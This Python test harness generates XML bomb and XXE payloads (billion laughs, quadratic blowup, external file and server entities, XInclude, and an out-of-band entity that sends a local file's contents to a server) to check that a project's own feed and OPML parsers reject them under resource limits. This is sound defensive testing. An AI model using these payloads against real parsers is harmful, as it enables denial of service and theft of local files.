"""Documents made to burst whoever reads them, and a program that reads them within narrow bounds.

    python -m tests.discover.bombs URL FILE

``URL`` and ``FILE`` are what external entities name; whoever started this looks whether they were
touched. Writes a line of JSON per document: its name, and what came of it as a list and as OPML.
"""

from __future__ import annotations

import gzip
import json
import resource
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

CPU_SECONDS = 60
LARGE_BYTES = 5_000_000
MEMORY_BYTES = 400 * 1024 * 1024
"""Beyond what the program has when it begins."""


def rss(title: str = "", declared: str = "", around: str = "") -> str:
    """A feed of one item."""
    doctype = f"<!DOCTYPE rss [{declared}]>" if declared else ""
    item = f"<item><title>{title}</title><link>https://paper.example/a</link></item>"
    return f"{doctype}<rss {around}><channel>{item}</channel></rss>"


LAUGHS = "".join(f"<!ENTITY e{n} '{f'&e{n + 1};' * 10}'>" for n in range(9)) + "<!ENTITY e9 'haha'>"
PARAMETERS = (
    "<!ENTITY % p9 'ha'>"
    + "".join(f"<!ENTITY % p{n} '{f'&#37;p{n + 1};' * 10}'>" for n in reversed(range(9)))
    + "%p0;<!ENTITY x '%p0;'>"
)
LONG = f"<!ENTITY a '{'ha' * 50_000}'>"
DEEP = "<x>" * 50_000


def of_entities(url: str, file: str) -> dict[str, str | bytes]:
    """Each of them has its entities, so none may be read."""
    told = f"<!ENTITY % b \"<!ENTITY &#37; c SYSTEM '{url}?%a;'>\">%b;%c;"
    return {
        "laughs": rss("&e0;", LAUGHS),
        "laughs in an attribute": rss("<b c='&e0;'/>", LAUGHS),
        "laughs in a default": rss("", LAUGHS + "<!ATTLIST rss a CDATA '&e0;'>"),
        "laughs in an address": rss("", LAUGHS).replace("/a</link>", "/&e0;</link>"),
        "laughs in an Atom link": rss("<link href='/&e0;'/>", LAUGHS),
        "laughs that nobody asks for": rss("", LAUGHS),
        "laughs in UTF-16": rss("&e0;", LAUGHS).encode("utf-16"),
        "laughs in UTF-32": rss("&e0;", LAUGHS).encode("utf-32"),
        "laughs behind a declaration": "<?xml version='1.0'?>" + rss("&e0;", LAUGHS),
        "an entity that names itself": rss("&a;", "<!ENTITY a '&a;'>"),
        "two that name each other": rss("&a;", "<!ENTITY a '&b;'><!ENTITY b '&a;'>"),
        "quadratic": rss("&a;" * 50_000, LONG),
        "quadratic in attributes": rss("<b c='&a;'/>" * 20_000, LONG),
        "quadratic in one attribute": rss("", LONG, f"b='{'&a;' * 50_000}'"),
        "parameters": rss("&x;", PARAMETERS),
        "markup": rss("&a;", "<!ENTITY a '&#60;item&#62;'>"),
        "a file": rss("&a;", f"<!ENTITY a SYSTEM '{file}'>"),
        "a file that nobody asks for": rss("", f"<!ENTITY a SYSTEM '{file}'>"),
        "a file in an attribute": rss("", f"<!ENTITY a SYSTEM '{file}'>", "b='&a;'"),
        "a file as an address": rss("", f"<!ENTITY a SYSTEM '{file}'>").replace("/a<", "/&a;<"),
        "a file that is no text": rss("&a;", f"<!ENTITY a SYSTEM '{file}' NDATA b>"),
        "a server": rss("&a;", f"<!ENTITY a SYSTEM '{url}'>"),
        "a server by a public name": rss("&a;", f"<!ENTITY a PUBLIC 'b' '{url}'>"),
        "a parameter from a server": rss("&b;", f"<!ENTITY % a SYSTEM '{url}'>%a;"),
        "a parameter from a file": rss("&b;", f"<!ENTITY % a SYSTEM '{file}'>%a;"),
        "a file told to a server": rss("", f"<!ENTITY % a SYSTEM '{file}'>{told}"),
    }


def of_size() -> dict[str, str]:
    """Each of them is more than is kept in memory, or broken where it is long."""
    return {
        "very wide": rss("<x/>" * 4_000_000),
        "very many references": rss("&nobody;" * 4_000_000),
        "very many attributes": rss("<x a='' b=''/>" * 1_500_000),
        "deep groups of a declaration": rss("", f"<!ELEMENT rss {'(' * 200_000}>"),
        "a long attribute": rss("", "", f"a='{'x' * 11_000_000}'"),
        "very many values": '{"items": [' + "[]," * 2_500_000 + "[]]}",
        "deep values": '{"items":' + "[" * 1_000_000,
    }


def readable(url: str, file: str) -> dict[str, str]:
    """Each of them has an entry before or around what is hostile about it."""
    paper = rss("Rain")
    spaces = " ".join(f"xmlns:n{n}='u{n}'" for n in range(5_000))
    return {
        "a declaration from a server": f"<!DOCTYPE rss SYSTEM '{url}'>{paper}",
        "a declaration from a file": f"<!DOCTYPE rss PUBLIC 'x' '{file}'>{paper}",
        "a style sheet from a server": f"<?xml-stylesheet href='{url}'?>{paper}",
        "an inclusion of a file": paper.replace(
            "<channel>",
            f"<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='{file}'/><channel>",
        ),
        "a schema from a server": rss(
            "Rain",
            "",
            "xmlns:s='http://www.w3.org/2001/XMLSchema-instance' "
            f"s:schemaLocation='{url} {url}' s:noNamespaceSchemaLocation='{url}'",
        ),
        "deep": paper.replace("</channel>", DEEP),
        "deep and closed": paper.replace("</channel>", DEEP + "</x>" * 50_000),
        "wide": paper.replace("</channel>", "<x/>" * 200_000),
        "items in items": paper.replace("</channel>", "<item><link>/a</link>" * 20_000),
        "attributes": rss("Rain", "", " ".join(f"a{n}='1'" for n in range(50_000))),
        "namespaces": rss("Rain", "", spaces),
        "many comments": paper.replace("<channel>", "<!---->" * 200_000 + "<channel>"),
        "many references": rss("&#82;&#97;&#105;&#110;" + "&#32;" * 200_000),
        "many open tags": paper.replace("</channel>", "< " * 200_000),
        "comments that do not end": paper.replace("</channel>", "<!--" * 200_000),
        "an entity of a few characters": rss("&a;", "<!ENTITY a 'R&#97;in'>"),
    }


def written(documents: dict[str, str | bytes] | dict[str, str]) -> Iterator[tuple[str, bytes]]:
    for name, document in documents.items():
        body = document if isinstance(document, bytes) else document.encode()
        yield name, body
        yield f"{name}, gzipped", gzip.compress(body, 1)


def outcome(read: Callable[[bytes], object], body: bytes) -> str:
    from pipeline.discover.found import Undiscoverable

    try:
        return repr(read(body))[:2_000]
    except Undiscoverable as error:
        return error.reason


def main(url: str, file: str) -> None:
    from pipeline.discover.listings import read_listing
    from pipeline.discover.opml import read_opml

    pages = int(Path("/proc/self/statm").read_text().split()[0])
    most = pages * resource.getpagesize() + MEMORY_BYTES
    resource.setrlimit(resource.RLIMIT_AS, (most, most))
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
    for documents in (of_entities(url, file), of_size(), readable(url, file)):
        for name, body in written(documents):
            as_list = outcome(lambda body: read_listing(body, "https://paper.example/"), body)
            as_opml = ""
            if len(body) < LARGE_BYTES:  # both are opened by the same function
                opml = body.replace(b"<rss", b"<opml").replace(b"</rss", b"</opml")
                as_opml = outcome(read_opml, opml)
            line = json.dumps([name, as_list, as_opml])
            sys.stdout.write(line + "\n")
            sys.stdout.flush()


if __name__ == "__main__":
    main(*sys.argv[1:])
